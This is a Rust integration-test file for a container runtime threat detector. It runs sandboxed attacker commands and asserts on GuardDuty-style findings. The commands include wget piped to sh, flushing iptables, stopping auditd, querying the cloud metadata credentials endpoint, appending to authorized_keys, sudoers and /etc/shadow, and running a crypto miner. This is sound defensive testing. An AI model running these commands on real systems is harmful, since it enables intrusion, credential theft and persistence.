//! Findings about what programs are and what commands do, with the real
//! programs run as real processes: attack tools, cryptominers, suspicious
//! command lines (download-and-run, defence evasion, discovery, persistence,
//! privilege escalation) and sensitive files modified.
//!
//! Anything destructive-looking happens inside a runc container, against the
//! container's own rootfs. Tools the busybox image lacks (iptables,
//! systemctl, xmrig) are stand-ins: copies of busybox named like the tool — a
//! real exec of a file with that name, which does nothing ("applet not
//! found"). On the host, stand-ins are copies of /bin/true in a temp dir.
//!
//! Each test asserts that exactly the expected type fires for the acting
//! process (or, where one process both runs a command and writes a file, for
//! the acting event: GuardDuty reports the command and the file change as
//! two activities).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use saker_detect::{Finding, FindingType as T};
use saker_model::{Event, Kind};
use saker_testkit::container::{Container, ContainerSpec, busybox, hex_id};
use saker_testkit::{Harness, harness};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;

const ACCOUNT: &str = "123456789012";

// ---- the image and the container ----

/// What the container's image ships beyond the base busybox rootfs.
#[derive(Default)]
struct Image {
    /// Busybox applets linked in /bin (run by path, each is a real exec).
    applets: &'static [&'static str],
    /// Copies of busybox at these paths: real executables named like a tool.
    standins: &'static [&'static str],
    /// Directories to create.
    dirs: &'static [&'static str],
    /// Files and their contents.
    files: &'static [(&'static str, &'static str)],
}

impl Image {
    fn install(self) -> impl FnOnce(&Path) + 'static {
        move |root: &Path| {
            let at = |p: &str| root.join(p.trim_start_matches('/'));
            for d in self.dirs {
                std::fs::create_dir_all(at(d)).unwrap();
            }
            for a in self.applets {
                let link = at(&format!("/bin/{a}"));
                if !link.exists() {
                    std::os::unix::fs::symlink("busybox", link).unwrap();
                }
            }
            for s in self.standins {
                std::fs::create_dir_all(at(s).parent().unwrap()).unwrap();
                std::fs::copy(busybox(), at(s)).unwrap();
            }
            for (f, contents) in self.files {
                std::fs::create_dir_all(at(f).parent().unwrap()).unwrap();
                std::fs::write(at(f), contents).unwrap();
            }
        }
    }
}

/// A plain runc container (its id 64 hex digits, like Docker's) running
/// `script` as its entrypoint (`/bin/sh -c SCRIPT`).
fn container(script: &str, image: Image) -> ContainerSpec {
    Container::spec(script).id(&hex_id(64)).rootfs(image.install())
}

/// The same in an ECS task on EC2: cgroup /ecs/<task>/<id>, the ECS agent's
/// labels. The entrypoint sleeps a moment first so the labels (runc's state)
/// are on disk when its first exec is attributed.
fn ecs_container(script: &str, image: Image) -> (ContainerSpec, String) {
    let (task, id) = (hex_id(32), hex_id(64));
    let spec = Container::spec(&format!("sleep 0.2; {script}"))
        .id(&id)
        .cgroup_path(&format!("/ecs/{task}/{id}"))
        .annotation("com.amazonaws.ecs.cluster", &format!("arn:aws:ecs:us-east-1:{ACCOUNT}:cluster/prod"))
        .annotation("com.amazonaws.ecs.task-arn", &format!("arn:aws:ecs:us-east-1:{ACCOUNT}:task/prod/{task}"))
        .annotation("com.amazonaws.ecs.container-name", "worker")
        .annotation("com.amazonaws.ecs.task-definition-family", "shop")
        .annotation("com.amazonaws.ecs.task-definition-version", "7")
        .rootfs(image.install());
    (spec, task)
}

/// Run the container to completion; its stdout.
fn run(spec: ContainerSpec) -> (Container, String) {
    let mut c = spec.build();
    c.start();
    let out = c.wait();
    (c, out)
}

/// Run a host program as a child of the test, to completion. Directly, not
/// through saker-trigger: the wrapper's own command line would repeat the
/// technique's arguments (a pool URL makes any command line a miner's).
fn spawn(argv: &[&str]) {
    let status = std::process::Command::new(argv[0]).args(&argv[1..]).status().unwrap();
    assert!(status.success(), "{argv:?}: {status}");
}

/// A directory of host stand-ins: copies of /bin/true named like tools.
fn host_standins(names: &[&str]) -> tempfile::TempDir {
    let dir = tempfile::Builder::new().prefix("saker-tools-").tempdir().unwrap();
    for n in names {
        std::fs::copy("/bin/true", dir.path().join(n)).unwrap();
    }
    dir
}

// ---- what a finding says ----

fn ctx<'a>(f: &'a Finding, field: &str) -> &'a Value {
    f.service.runtime_details.context.get(field).unwrap_or_else(|| panic!("no context field {field}: {f:#?}"))
}

fn argv(f: &Finding) -> &[String] {
    &f.service.runtime_details.process.argv
}

fn in_container(f: &Finding, id: &str) -> bool {
    f.resource.container_details.as_ref().is_some_and(|c| c.id == id)
}

/// A finding about a plain container: its resource is the container.
fn assert_container_resource(f: &Finding, id: &str) {
    assert_eq!(f.resource.resource_type, "Container", "{f:#?}");
    assert_eq!(f.resource.container_details.as_ref().map(|c| c.id.as_str()), Some(id));
    assert!(f.resource.ecs_cluster_details.is_none());
}

/// A finding about a host process: its resource is the instance.
fn assert_instance_resource(f: &Finding) {
    assert_eq!(f.resource.resource_type, "Instance", "{f:#?}");
    assert!(f.resource.container_details.is_none());
    assert!(f.resource.instance_details.as_ref().is_some_and(|i| i.hostname.is_some()));
}

/// Wait until the finding's process has exited: every event it caused, and
/// so every finding about it, has been through the detector.
fn settle(h: &Harness, f: &Finding) {
    let uuid = f.service.runtime_details.process.uuid.clone();
    h.expect(&format!("exit of {:?}", argv(f)), |e: &Event| {
        e.kind == Kind::ProcessExit && e.process.as_ref().is_some_and(|p| p.uuid.to_string() == uuid)
    });
}

/// Exactly `f`'s type fires for its process.
fn assert_only_type_for_process(h: &Harness, f: &Finding) {
    settle(h, f);
    let uuid = &f.service.runtime_details.process.uuid;
    let types: Vec<T> =
        h.findings(|g| &g.service.runtime_details.process.uuid == uuid).iter().map(|g| g.finding_type).collect();
    assert!(types.iter().all(|t| *t == f.finding_type), "only {} for {:?}, got {types:?}", f.finding_type, argv(f));
}

/// Exactly `f`'s type fires for the event behind it (its process may do
/// other things that are findings of their own).
fn assert_only_type_for_event(h: &Harness, f: &Finding) {
    settle(h, f);
    let first = &f.service.event_ids[0];
    let types: Vec<T> =
        h.findings(|g| g.service.event_ids.first() == Some(first)).iter().map(|g| g.finding_type).collect();
    assert!(types.iter().all(|t| *t == f.finding_type), "only {} for that event, got {types:?}", f.finding_type);
}

/// A loopback HTTP server answering every GET with `body`, `n` times.
fn http_server(body: &'static str, n: usize) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming().take(n) {
            let mut s = s.unwrap();
            let mut req = Vec::new();
            let mut buf = [0u8; 1024];
            while !req.windows(4).any(|w| w == b"\r\n\r\n") {
                match s.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(k) => req.extend_from_slice(&buf[..k]),
                }
            }
            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
            let _ = s.write_all(head.as_bytes()).and_then(|_| s.write_all(body.as_bytes()));
        }
    });
    port
}

// ---- Execution:Runtime/SuspiciousTool ----

#[test]
fn suspicious_tool_offensive_anywhere_dual_use_only_where_unusual() {
    let Some(h) = harness() else { return };
    let tools = host_standins(&["sqlmap", "nmap"]);
    let sqlmap = tools.path().join("sqlmap").display().to_string();
    let nmap = tools.path().join("nmap").display().to_string();

    // An offensive-only tool on the host: High.
    spawn(&[&sqlmap, "-u", "http://127.0.0.1/item?id=1", "--batch"]);
    let f = h.expect_finding("sqlmap on the host", |f| {
        f.finding_type == T::SuspiciousTool && argv(f).first() == Some(&sqlmap)
    });
    assert_eq!(f.severity, 8.0);
    assert_eq!(ctx(&f, "toolName"), "sqlmap");
    assert_eq!(ctx(&f, "toolCategory"), "Exploitation tool");
    assert_eq!(ctx(&f, "commandLineExample"), &format!("{sqlmap} -u http://127.0.0.1/item?id=1 --batch"));
    assert_instance_resource(&f);
    assert_only_type_for_process(h, &f);

    // A dual-use tool in a container — busybox's own nc, as in Alpine
    // images: Low.
    let (c, _) =
        run(container("/bin/nc -w 1 127.0.0.1 9 </dev/null; true", Image { applets: &["nc"], ..Default::default() }));
    let f = h.expect_finding("nc in a container", |f| f.finding_type == T::SuspiciousTool && in_container(f, &c.id));
    assert_eq!(f.severity, 2.0);
    assert_eq!(ctx(&f, "toolName"), "nc");
    assert_eq!(ctx(&f, "toolCategory"), "Network utility");
    assert_eq!(ctx(&f, "commandLineExample"), "/bin/nc -w 1 127.0.0.1 9");
    assert_container_resource(&f, &c.id);
    assert_only_type_for_process(h, &f);

    // Near miss: the same kind of tool from an admin's shell on the host is
    // daily work. (`; true` keeps bash from exec'ing nmap in its own place.)
    spawn(&["/bin/bash", "-c", &format!("{nmap} -sn 127.0.0.1; true")]);
    let exec = h.expect("nmap run by bash", |e| {
        e.kind == Kind::ProcessExec && e.exec().is_some_and(|x| x.argv.first() == Some(&nmap))
    });
    assert_eq!(exec.lineage.first().map(|p| &*p.name), Some("bash"), "nmap's parent is the shell");
    assert!(exec.container.is_none());
    let uuid = exec.process.as_ref().unwrap().uuid;
    h.expect("exit of nmap", |e| e.kind == Kind::ProcessExit && e.process.as_ref().is_some_and(|p| p.uuid == uuid));
    let nmap_findings = h.findings(|f| f.service.runtime_details.process.uuid == uuid.to_string());
    assert!(nmap_findings.is_empty(), "nmap from bash on the host: {nmap_findings:#?}");
}

// ---- Impact:Runtime/CryptoMinerExecuted ----

#[test]
fn crypto_miner_by_name_and_by_pool_url() {
    let Some(h) = harness() else { return };

    // A binary named xmrig, in an ECS task.
    let (spec, task) = ecs_container(
        "/usr/local/bin/xmrig -o 127.0.0.1:3333 -u wallet; true",
        Image { standins: &["/usr/local/bin/xmrig"], ..Default::default() },
    );
    let (c, _) = run(spec);
    let f =
        h.expect_finding("xmrig in the task", |f| f.finding_type == T::CryptoMinerExecuted && in_container(f, &c.id));
    assert_eq!(f.severity, 8.0);
    assert_eq!(ctx(&f, "commandLineExample"), "/usr/local/bin/xmrig -o 127.0.0.1:3333 -u wallet");
    assert_eq!(f.service.runtime_details.process.executable_path.as_deref(), Some("/usr/local/bin/xmrig"));
    assert_eq!(f.resource.resource_type, "ECSCluster");
    let ecs = f.resource.ecs_cluster_details.as_ref().unwrap();
    assert_eq!(ecs.name.as_deref(), Some("prod"));
    assert_eq!(ecs.task_details.arn.as_deref(), Some(&*format!("arn:aws:ecs:us-east-1:{ACCOUNT}:task/prod/{task}")));
    assert_eq!(ecs.task_details.definition_arn.as_deref(), Some("shop:7"));
    assert_eq!(ecs.task_details.containers.iter().map(|c| c.id.as_str()).collect::<Vec<_>>(), [c.id.as_str()]);
    assert_eq!(f.resource.container_details.as_ref().unwrap().name.as_deref(), Some("worker"));
    assert_only_type_for_process(h, &f);

    // Any binary, whatever its name, pointed at a mining pool.
    let tools = host_standins(&["kworker-sync"]);
    let miner = tools.path().join("kworker-sync").display().to_string();
    spawn(&[&miner, "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet"]);
    let f = h.expect_finding("a binary given a stratum URL", |f| {
        f.finding_type == T::CryptoMinerExecuted && argv(f).first() == Some(&miner)
    });
    assert_eq!(ctx(&f, "commandLineExample"), &format!("{miner} -o stratum+tcp://127.0.0.1:3333 -u wallet"));
    assert_instance_resource(&f);
    assert_only_type_for_process(h, &f);
}

// ---- Execution:Runtime/SuspiciousCommand ----

#[test]
fn execution_command_downloads_and_runs() {
    let Some(h) = harness() else { return };
    let port = http_server("#!/bin/sh\necho payload-ran\n", 2);
    let image = || Image { applets: &["wget", "chmod"], ..Default::default() };

    // Fetch to a file, make it executable, run it.
    let line = format!("wget -q -O /tmp/x http://127.0.0.1:{port}/x && chmod +x /tmp/x && /tmp/x");
    let (c, out) = run(container(&line, image()).host_network());
    assert!(out.contains("payload-ran"), "the download ran: {out}");
    let f = h.expect_finding("download made executable", |f| {
        f.finding_type == T::SuspiciousCommandExecution && in_container(f, &c.id)
    });
    assert_eq!(ctx(&f, "commandLineExample"), &format!("/bin/sh -c {line}"));
    assert_eq!(ctx(&f, "threatFilePath"), "/tmp/x");
    assert_eq!(f.severity, 5.0);
    assert_container_resource(&f, &c.id);
    h.expect("the download run", |e| {
        e.exec().is_some_and(|x| x.filename.as_deref() == Some("/tmp/x"))
            && e.container.as_ref().is_some_and(|ct| ct.id == c.id)
    });
    // busybox sh runs the last command in its own place (exec without fork):
    // the process goes on to be /tmp/x, so judge the command's own event.
    assert_only_type_for_event(h, &f);

    // Fetch and pipe into a shell.
    let line = format!("wget -q -O- http://127.0.0.1:{port}/x | sh");
    let (c, out) = run(container(&line, image()).host_network());
    assert!(out.contains("payload-ran"), "the download ran: {out}");
    let f = h.expect_finding("download piped to sh", |f| {
        f.finding_type == T::SuspiciousCommandExecution && in_container(f, &c.id)
    });
    assert_eq!(ctx(&f, "commandLineExample"), &format!("/bin/sh -c {line}"));
    assert!(f.service.runtime_details.context.get("threatFilePath").is_none(), "nothing written to disk");
    assert_container_resource(&f, &c.id);
    assert_only_type_for_process(h, &f);
}

// ---- DefenseEvasion:Runtime/SuspiciousCommand ----

#[test]
fn defense_evasion_commands_in_a_container() {
    let Some(h) = harness() else { return };
    // iptables and systemctl are stand-ins; crontab is busybox's. The
    // preloaded library need not exist: busybox is static, no loader reads it.
    let (c, _) = run(container(
        "/usr/sbin/iptables -F; /bin/crontab -r; /usr/bin/systemctl stop auditd; \
         LD_PRELOAD=/tmp/x.so /bin/true; true",
        Image { applets: &["crontab"], standins: &["/usr/sbin/iptables", "/usr/bin/systemctl"], ..Default::default() },
    ));
    let evasion = |what: &str, argv0: &'static str| {
        let f = h.expect_finding(what, |f| {
            f.finding_type == T::SuspiciousCommandDefenseEvasion
                && in_container(f, &c.id)
                && argv(f).first().is_some_and(|a| a == argv0)
        });
        assert_container_resource(&f, &c.id);
        assert_eq!(f.severity, 8.0);
        assert_only_type_for_process(h, &f);
        f
    };

    let f = evasion("firewall flushed", "/usr/sbin/iptables");
    assert_eq!(ctx(&f, "commandLineExample"), "/usr/sbin/iptables -F");
    let f = evasion("crontab wiped", "/bin/crontab");
    assert_eq!(ctx(&f, "commandLineExample"), "/bin/crontab -r");
    let f = evasion("auditd stopped", "/usr/bin/systemctl");
    assert_eq!(ctx(&f, "serviceName"), "auditd");
    assert_eq!(ctx(&f, "commandLineExample"), "/usr/bin/systemctl stop auditd");
    let f = evasion("library preloaded", "/bin/true");
    assert_eq!(ctx(&f, "ldPreloadValue"), "/tmp/x.so");
}

// ---- Discovery:Runtime/SuspiciousCommand ----

#[test]
fn discovery_commands_in_a_container() {
    let Some(h) = harness() else { return };
    // The container has its own network namespace with no route out: the
    // credentials query fails at connect; the command is what is detected.
    // The URL comes in the environment so only wget's command line names it.
    let (c, _) = run(container(
        "/bin/find /bin -perm -4000; /bin/wget -q \"$IMDS\"; true",
        Image { applets: &["find", "wget"], ..Default::default() },
    )
    .env("IMDS", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"));
    let discovery = |what: &str, argv0: &'static str| {
        let f = h.expect_finding(what, |f| {
            f.finding_type == T::SuspiciousCommandDiscovery
                && in_container(f, &c.id)
                && argv(f).first().is_some_and(|a| a == argv0)
        });
        assert_container_resource(&f, &c.id);
        assert_only_type_for_process(h, &f);
        f
    };
    let f = discovery("set-id binaries searched", "/bin/find");
    assert_eq!(ctx(&f, "commandLineExample"), "/bin/find /bin -perm -4000");
    let f = discovery("metadata credentials queried", "/bin/wget");
    assert_eq!(
        ctx(&f, "commandLineExample"),
        "/bin/wget -q http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    );
    let connect = h.expect("wget's connect to the metadata address", |e| {
        e.kind == Kind::NetConnect
            && e.net().is_some_and(|n| n.remote_address.as_deref() == Some("169.254.169.254"))
            && e.process.as_ref().is_some_and(|p| p.uuid.to_string() == f.service.runtime_details.process.uuid)
    });
    assert!(connect.result.is_some_and(|r| r < 0), "it never left the container: {:?}", connect.result);
}

// ---- Persistence:Runtime/SuspiciousCommand ----

#[test]
fn persistence_commands_in_a_container() {
    let Some(h) = harness() else { return };
    let key = "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys";
    // The payload comes in the environment, so only the inner shell's
    // command line holds it (the entrypoint's would be the same finding).
    let (c, out) = run(container(
        "/bin/sh -c \"$PAYLOAD\"; /bin/crontab /tmp/job; cat /var/spool/cron/crontabs/root",
        Image {
            applets: &["crontab"],
            dirs: &["/root/.ssh", "/var/spool/cron/crontabs"],
            files: &[("/tmp/job", "* * * * * /tmp/x\n"), ("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")],
            ..Default::default()
        },
    )
    .env("PAYLOAD", key));

    // The shell's command line adds a key...
    let f = h.expect_finding("SSH key added", |f| {
        f.finding_type == T::SuspiciousCommandPersistence
            && in_container(f, &c.id)
            && argv(f).last().is_some_and(|a| a == key)
    });
    assert_eq!(ctx(&f, "commandLineExample"), &format!("/bin/sh -c {key}"));
    assert_container_resource(&f, &c.id);
    assert_only_type_for_event(h, &f);
    // ...and its write is the other activity GuardDuty reports.
    let uuid = f.service.runtime_details.process.uuid.clone();
    let w = h.expect_finding("the shell's write of authorized_keys", |f| {
        f.finding_type == T::SensitiveFileModifiedPersistence && f.service.runtime_details.process.uuid == uuid
    });
    assert_eq!(ctx(&w, "filePath"), "/root/.ssh/authorized_keys");
    assert_only_type_for_event(h, &w);

    // crontab installs the table for real; writing it is crontab's job, so
    // the install is one finding, the command.
    assert!(out.contains("* * * * * /tmp/x"), "the crontab was installed: {out}");
    let f = h.expect_finding("crontab installed", |f| {
        f.finding_type == T::SuspiciousCommandPersistence
            && in_container(f, &c.id)
            && argv(f).first().is_some_and(|a| a == "/bin/crontab")
    });
    assert_eq!(ctx(&f, "commandLineExample"), "/bin/crontab /tmp/job");
    assert_container_resource(&f, &c.id);
    h.expect("crontab writing its table", |e| {
        e.kind == Kind::FileWrite
            && e.file().is_some_and(|w| w.path == "/var/spool/cron/crontabs/root.new")
            && e.process.as_ref().is_some_and(|p| p.uuid.to_string() == f.service.runtime_details.process.uuid)
    });
    assert_only_type_for_process(h, &f);
}

// ---- PrivilegeEscalation:Runtime/SuspiciousCommand ----

#[test]
fn privilege_escalation_commands_in_a_container() {
    let Some(h) = harness() else { return };
    let sudoers = "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers";
    // As above: only the inner shell's command line holds the payload.
    let (c, _) = run(container(
        "/bin/chmod u+s /tmp/sh; /bin/sh -c \"$PAYLOAD\"; true",
        Image { applets: &["chmod"], files: &[("/tmp/sh", "#!/bin/sh\n")], ..Default::default() },
    )
    .env("PAYLOAD", sudoers));

    let f = h.expect_finding("set-uid bit set", |f| {
        f.finding_type == T::SuspiciousCommandPrivilegeEscalation
            && in_container(f, &c.id)
            && argv(f).first().is_some_and(|a| a == "/bin/chmod")
    });
    assert_eq!(ctx(&f, "commandLineExample"), "/bin/chmod u+s /tmp/sh");
    assert_container_resource(&f, &c.id);
    assert_only_type_for_process(h, &f);

    let f = h.expect_finding("sudoers appended to", |f| {
        f.finding_type == T::SuspiciousCommandPrivilegeEscalation
            && in_container(f, &c.id)
            && argv(f).last().is_some_and(|a| a == sudoers)
    });
    assert_eq!(ctx(&f, "commandLineExample"), &format!("/bin/sh -c {sudoers}"));
    assert_only_type_for_event(h, &f);
    // The write itself is the file activity.
    let uuid = f.service.runtime_details.process.uuid.clone();
    let w = h.expect_finding("the shell's write of sudoers", |f| {
        f.finding_type == T::SensitiveFileModifiedPrivilegeEscalation && f.service.runtime_details.process.uuid == uuid
    });
    assert_eq!(ctx(&w, "filePath"), "/etc/sudoers");
    assert_only_type_for_event(h, &w);
}

// ---- *:Runtime/SensitiveFileModified ----

#[test]
fn persistence_sensitive_files_written_renamed_deleted() {
    let Some(h) = harness() else { return };
    let (c, _) = run(container(
        "/bin/cp /tmp/job /etc/cron.d/job; /bin/mv /tmp/key /root/.ssh/authorized_keys; /bin/rm /etc/cron.d/job; true",
        Image {
            applets: &["cp", "mv", "rm"],
            dirs: &["/etc/cron.d", "/root/.ssh"],
            files: &[("/tmp/job", "* * * * * root /tmp/x\n"), ("/tmp/key", "ssh-ed25519 AAAA\n")],
            ..Default::default()
        },
    ));
    let changed = |what: &str, argv0: &'static str| {
        let f = h.expect_finding(what, |f| {
            f.finding_type == T::SensitiveFileModifiedPersistence
                && in_container(f, &c.id)
                && argv(f).first().is_some_and(|a| a == argv0)
        });
        assert_container_resource(&f, &c.id);
        assert_only_type_for_process(h, &f);
        f
    };
    let f = changed("cron job dropped", "/bin/cp");
    assert_eq!((ctx(&f, "fileOperation"), ctx(&f, "filePath")), (&"Write".into(), &"/etc/cron.d/job".into()));
    assert_eq!(ctx(&f, "relatedFilePaths"), &serde_json::json!([]));
    let f = changed("key moved into place", "/bin/mv");
    assert_eq!(ctx(&f, "fileOperation"), "Rename");
    assert_eq!(ctx(&f, "filePath"), "/root/.ssh/authorized_keys");
    assert_eq!(ctx(&f, "relatedFilePaths"), &serde_json::json!(["/tmp/key"]));
    let f = changed("cron job removed", "/bin/rm");
    assert_eq!((ctx(&f, "fileOperation"), ctx(&f, "filePath")), (&"Delete".into(), &"/etc/cron.d/job".into()));
}

#[test]
fn privilege_escalation_sensitive_file_written() {
    let Some(h) = harness() else { return };
    let (c, _) = run(container(
        "echo 'x::0:0:99999:7:::' >> /etc/shadow",
        Image { files: &[("/etc/shadow", "root:*:20000:0:99999:7:::\n")], ..Default::default() },
    ));
    let f = h.expect_finding("shadow appended to", |f| {
        f.finding_type == T::SensitiveFileModifiedPrivilegeEscalation && in_container(f, &c.id)
    });
    assert_eq!((ctx(&f, "fileOperation"), ctx(&f, "filePath")), (&"Write".into(), &"/etc/shadow".into()));
    assert_container_resource(&f, &c.id);
    assert_only_type_for_process(h, &f);
}

#[test]
fn defense_evasion_sensitive_file_written() {
    let Some(h) = harness() else { return };
    let (c, _) = run(container("echo /tmp/x.so > /etc/ld.so.preload", Image::default()));
    let f = h.expect_finding("ld.so.preload written", |f| {
        f.finding_type == T::SensitiveFileModifiedDefenseEvasion && in_container(f, &c.id)
    });
    assert_eq!((ctx(&f, "fileOperation"), ctx(&f, "filePath")), (&"Write".into(), &"/etc/ld.so.preload".into()));
    assert_container_resource(&f, &c.id);
    assert_only_type_for_process(h, &f);
}
